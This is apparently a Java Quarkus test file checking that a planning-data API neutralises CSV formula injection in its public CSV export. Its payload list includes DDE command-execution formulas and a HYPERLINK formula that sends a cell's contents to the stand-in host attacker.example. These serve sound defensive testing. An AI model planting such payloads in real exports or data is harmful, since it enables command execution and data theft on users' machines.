package uk.org.wmca.planforgrowth.editorial;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static uk.org.wmca.planforgrowth.editorial.Editor.patch;
import static uk.org.wmca.planforgrowth.editorial.Editor.publish;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import uk.org.wmca.planforgrowth.Api;

/**
 * CSV formula injection, end to end: an editor publishes text that a spreadsheet would evaluate, and the public CSV
 * (read back with the project's CSV library) has every such cell neutralised with a leading apostrophe (OWASP).
 */
@QuarkusTest
@TestProfile(EditingProfile.class)
class CsvInjectionTest {

    private static final String SOURCE = "/api/v1/sources/wmca-levers-of-growth";

    private static final List<String> PAYLOADS = List.of(
            "=1+1",
            "+1",
            "-1",
            "@SUM(1)",
            "\t=1",
            "\r=1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"Click\")",
            "-2+3+cmd|' /C calc'!A0");

    @Test
    void everyFormulaPayloadIsNeutralisedInThePublicCsv() throws Exception {
        CsvMapper csv = new CsvMapper();
        for (String payload : PAYLOADS) {
            patch(SOURCE, JsonMapper.builder().build().writeValueAsString(Map.of("title", payload)))
                    .statusCode(200);
            publish(SOURCE).statusCode(200);
            Api.given().get(SOURCE).then().statusCode(200);
            String body = Api.given()
                    .get("/api/v1/sources?format=csv")
                    .then()
                    .statusCode(200)
                    .contentType(org.hamcrest.Matchers.startsWith("text/csv"))
                    .extract()
                    .asString();
            try (MappingIterator<Map<String, String>> rows = csv.readerForMapOf(String.class)
                    .with(CsvSchema.emptySchema().withHeader())
                    .readValues(body)) {
                String title = rows.readAll().stream()
                        .filter(row -> "wmca-levers-of-growth".equals(row.get("id")))
                        .findFirst()
                        .orElseThrow()
                        .get("title");
                assertEquals(
                        "'" + payload,
                        title,
                        "payload " + payload.replace("\t", "\\t").replace("\r", "\\r"));
            }
        }
    }
}
